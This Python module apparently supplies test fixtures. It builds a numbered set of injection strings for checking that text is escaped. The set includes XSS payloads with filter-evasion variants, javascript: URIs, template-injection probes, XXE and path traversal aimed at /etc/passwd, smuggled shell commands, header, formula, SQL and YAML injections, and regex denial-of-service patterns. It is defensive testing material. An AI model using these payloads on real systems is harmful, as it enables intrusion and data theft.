"""Injections are strings that would run, load or break something where a text is put somewhere unescaped.

A few dozen seeds, each in every disguise that fits it. Whatever of them runs says so by
`alert(1)`; whatever of them loads asks a host that ends in `.invalid`, which no network has.
"""

import html
from collections.abc import Callable, Iterator, Mapping
from urllib.parse import quote

_CODE = "alert(1)"

_ELEMENTS = (
    f"<script>{_CODE}</script>",
    "<script src=//x.invalid></script>",
    f"<img src=x onerror={_CODE}>",
    f"<svg onload={_CODE}>",
    f"<iframe src=javascript:{_CODE}>",
)
"""Enough to try every disguise on."""

_MORE_ELEMENTS = (
    f"<body onload={_CODE}>",
    f"<input autofocus onfocus={_CODE}>",
    f"<details open ontoggle={_CODE}>",
    f"<video><source onerror={_CODE}>",
    f"<audio src=x onerror={_CODE}>",
    f"<marquee onstart={_CODE}>",
    f"<svg><script>{_CODE}</script>",
    f"<svg><a href=javascript:{_CODE}><text>x",
    f"<svg><animate onbegin={_CODE} attributeName=x>",
    "<svg><use href=//x.invalid/a#b>",
    f"<math><mtext><img src=x onerror={_CODE}>",
    f"<math href=javascript:{_CODE}>x</math>",
    f"<object data=javascript:{_CODE}>",
    "<embed src=//x.invalid/a.swf>",
    f'<iframe srcdoc="<script>{_CODE}</script>">',
    "<base href=//x.invalid/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_CODE}>",
    "<meta http-equiv=refresh content=0;url=//x.invalid>",
    "<link rel=stylesheet href=//x.invalid>",
    "<link rel=prefetch href=//x.invalid>",
    f"<form action=javascript:{_CODE}><button>x",
    "<form id=search><input name=q>",
    "<style>@import'//x.invalid';</style>",
    "<style>*{display:none}</style>",
    f"<template><script>{_CODE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    f"<a href=javascript:{_CODE}>x</a>",
    "<a ping=//x.invalid href=x>x</a>",
    f"<x onclick={_CODE} id=search-status>x</x>",
    f"<p style=animation-name:x onanimationstart={_CODE}>",
    f"<img srcset=x onerror={_CODE}>",
    f"<image src=x onerror={_CODE}>",
    f"<select><iframe></select><img src=x onerror={_CODE}>",
    f"<table><td><img src=x onerror={_CODE}></table>",
    "<textarea>",
    "<plaintext>",
    "<title>",
    "<xmp>",
    "<frameset>",
    "<portal src=//x.invalid>",
)


def _between(sign: str) -> Callable[[str], str]:
    """Put a sign after the name of the first element, where a space belongs."""

    def changed(text: str) -> str:
        end = min(at for at in (text.find(" "), text.find(">")) if at > 0)
        return text[:end] + sign + text[end:].lstrip(" ")

    return changed


def _swung(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text)).replace("ALERT", "alert")


DISGUISES: Mapping[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "capitals": _swung,
    "slash": _between("/"),
    "tab": _between("\t"),
    "form feed": _between("\f"),
    "line": _between("\n"),
    "NUL": _between("\0"),
    "no-break space": _between("\u00a0"),
    "NUL in the name": lambda text: text[:3] + "\0" + text[3:],
    "twice": lambda text: text[:3] + text + text[3:],
    "unclosed": lambda text: text.rstrip(">"),
    "two opened": lambda text: "<" + text,
    "entities": html.escape,
    "entities twice": lambda text: html.escape(html.escape(text)),
    "entities in hexadecimal": lambda text: text.replace("<", "&#x3c;").replace(">", "&#x3e;"),
    "entities without an end": lambda text: text.replace("<", "&#0000060").replace(">", "&gt"),
    "of an address": quote,
    "full width": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "look-alikes": lambda text: text.replace("<", "‹").replace(">", "›"),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "too long for UTF-8": lambda text: text.replace("<", "À¼").replace(">", "À¾"),
    "of a script": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    "of a style": lambda text: text.replace("<", "\\3c ").replace(">", "\\3e "),
    "combining": lambda text: text.replace("<", "<\u0338"),
    "joined": lambda text: text.replace("s", "\u017f").replace("k", "\u212a"),
    "marked": lambda text: "\ufeff" + text,
    "turned": lambda text: "\u2067" + text + "\u2069",
}
"""What a filter that looks for a string may overlook."""

_BREAKOUTS = (
    '">', "'>", '"', "'", "`", '" ', "' ", "-->", "--!>", "]]>", "?>", "*/", "%>", "</p>", "</title>", "</textarea>",
    "</script>", "</style>", "</template>", "</noscript>", "</svg>", "</a>", "</main>", "</body></html>", "\\", "\n\n",
)  # fmt: skip
"""What a text may stand in, left."""

_HANDLERS = (f"onfocus={_CODE} autofocus", f"onmouseover={_CODE}//", "style=x:expression(alert(1))")

_SCHEMES = (
    f"javascript:{_CODE}", f"JaVaScRiPt:{_CODE}", f" javascript:{_CODE}", f"java\tscript:{_CODE}",
    f"java\nscript:{_CODE}", f"\x01javascript:{_CODE}", f"javascript&colon;{_CODE}", f"java&#x09;script:{_CODE}",
    f"&#106;avascript:{_CODE}", "javascript:%61lert(1)", f"javascript://x.invalid/%0a{_CODE}", f"vbscript:{_CODE}",
    f"data:text/html,<script>{_CODE}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"view-source:javascript:{_CODE}", "//x.invalid/", "\\\\x.invalid\\", "/\\x.invalid", "https:x.invalid",
    f"https://x.invalid/\"onclick={_CODE}//", f"https://x.invalid/'onclick={_CODE}//", "https://x.invalid/?a&quot=1",
    f"https://x.invalid/`{_CODE}`", f"https://x.invalid/#{_CODE}", "http://x.invalid/%0d%0aX:1",
    "https://a@x.invalid/", "file:///etc/passwd", "blob:x", "filesystem:x", "about:blank", f"feed:javascript:{_CODE}",
)  # fmt: skip

_TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% include '/etc/passwd' %}", "{# x #}", "{{''.__class__.__mro__}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{0.__class__}", "{site}", "{count}", "{}", "%(site)s",
    "%s%n", "$site", "[[7*7]]", "{{=7*7}}", "@(7*7)", "\\N{LATIN SMALL LETTER A}", "{name!r:>99}", "<?php 7*7 ?>",
    "*{7*7}", "&lbrace;site.__class__&rbrace;", "**&#123;site.__class__&#125;**",
)  # fmt: skip

_DATA = (
    f"</script><script>{_CODE}</script>", "<!--<script>", "<!--", "-->", "\u2028alert(1)\u2029", f"\");{_CODE}//",
    f"');{_CODE}//", f"`+{_CODE}+`", "\\", "\\\"", "\\u0022", '","x":"', "}]}", "__proto__", "constructor", "toString",
    "]]><x>", "<![CDATA[<x>]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<!ENTITY y 'y'>", "&y;",
    "<?xml-stylesheet href='//x.invalid'?>", "</title></entry>", "</loc></url>", "<xi:include href='x'/>", "&#0;",
    "&#x1b;[31m", "&#xfffe;", "&#xd800;", "\ufffe", "*/alert(1)/*", "//# sourceMappingURL=//x.invalid", "\x1b[31mred",
    "\x9b31mred", "\x1b]0;title\x07", "\x85next", "\x7f", "\x08\x08", "\u202eright", "\u2066apart", "\u202dleft",
)  # fmt: skip

_STYLES = (
    "}*{background:url(//x.invalid)}", "expression(alert(1))", "url(javascript:alert(1))", "@import '//x.invalid';",
    "-moz-binding:url(//x.invalid)", "</style><script>alert(1)</script>", "\\65xpression(alert(1))", "*/}body{x:y}/*",
)  # fmt: skip

_MARKDOWN = (
    f"[x](javascript:{_CODE})", f"[x](<javascript:{_CODE}>)", f"[x](JaVa&#x53;cript:{_CODE})", f"<javascript:{_CODE}>",
    f"[x](data:text/html,{_CODE})", "![x](//x.invalid/a.png)", "![x][1]\n\n[1]: https://x.invalid/a.png",
    f"[x][1]\n\n[1]: javascript:{_CODE}", f"[x]: javascript:{_CODE}\n\n[x]",
    '[x](https://x.invalid "onclick=alert(1)")',
    "[x](https://x.invalid '\"><script>alert(1)</script>')", "[![x](//x.invalid)](//x.invalid)", "<https://x.invalid>",
    "[x](https://x.invalid/\"onclick=\"alert(1))", "[<b>x](https://x.invalid)", "x\n===\n<b>", "`<b>`",
    "``` <b>\n<b>\n```",
    "| a | b |\n| - | - |\n| <b> | c |", "<div>\n*x*\n</div>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<b\\>",
    "[x](s-22222.html)", "[x](../../etc/passwd)", "[x](#main)", "<x@x.invalid>", "1. <b>\n2. > <b>", "- [ ] <b>",
    "<!-- note: suicide -->", "<!-- note ends -->", "<!-- note: <b> -->", "<!-- note: x\" onclick=alert(1) -->",
    "\ue000suicide\ue001", "\ue000", "\ue001\ue000", "&#xe000;suicide&#xe001;", "&#xE&#xE000;000;x&#xE&#xE001;001;",
    "&#57&#57344;344;x&#5734\ue0005;", "[^1]\n\n[^1]: <b>", "~~<b>~~", "www.x.invalid", "https://x.invalid/<b>",
)  # fmt: skip

_PLACES = (
    "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\con", "con", "nul.txt", "%2e%2e%2f", "..%00.html",
    "a/../../b", "~/.ssh", "file:///x", "a" * 300, "x\r\nSet-Cookie: a=1", "x\nX-Header: 1", "%0d%0aX: 1", "--help",
    "$(touch x)", "`touch x`", "; touch x", "| touch x", "& touch x", "=1+1", "+1+1", "-1+1", "@SUM(1)",
    "=HYPERLINK(\"//x.invalid\")", "=cmd|'/c x'!A1", "\t=1+1", "---", "...", "!!python/object:os.system x", "&a *a",
    "*a", "<<: *a", "- x", "? x", "{a: b}", "[a]", "'", "''", "# x", "%YAML 1.2", "| x", "> x", "null", "~", "yes",
    "1e999", "0x10", "2026-13-45", ".inf", ".nan", "' OR 1=1 --", "\"; DROP TABLE x", "(((((((((", "a{99999}", "(a+)+$",
)  # fmt: skip


def _made() -> Iterator[tuple[str, str]]:
    for element in _ELEMENTS:
        for disguise, changed in DISGUISES.items():
            yield f"an element, {disguise}", changed(element)
    yield from (("another element", element) for element in _MORE_ELEMENTS)
    for breakout in _BREAKOUTS:
        yield "out of where a text stands", f"{breakout}<svg onload={_CODE}>"
        yield "out of an attribute", f"{breakout} {_HANDLERS[0]} x={breakout[:1]}"
    for handler in _HANDLERS:
        for text in (f'" {handler} "', f"' {handler} '", f"x {handler}"):
            yield "a handler in an attribute", text
    kinds = {
        "an address that runs or leads away": _SCHEMES,
        "words of templates": _TEMPLATES,
        "data in a script, in XML, in a terminal": _DATA,
        "words of styles": _STYLES,
        "Markdown": _MARKDOWN,
        "a name of a file, a command, a value": _PLACES,
    }
    for what, texts in kinds.items():
        yield from ((what, text) for text in texts)


def _named() -> Iterator[tuple[str, str]]:
    texts: dict[str, str] = {}
    for what, text in _made():
        texts.setdefault(text, what)
    for number, (text, what) in enumerate(texts.items()):
        yield f"{number} {what}", text


INJECTIONS: Mapping[str, str] = dict(_named())
"""Number and what is tried → the text; each text is there once."""

SEVERE = tuple(
    text
    for name, text in INJECTIONS.items()
    if name.endswith(("as it is", "another element", "text stands"))
)
"""Those that run something wherever they are not escaped."""
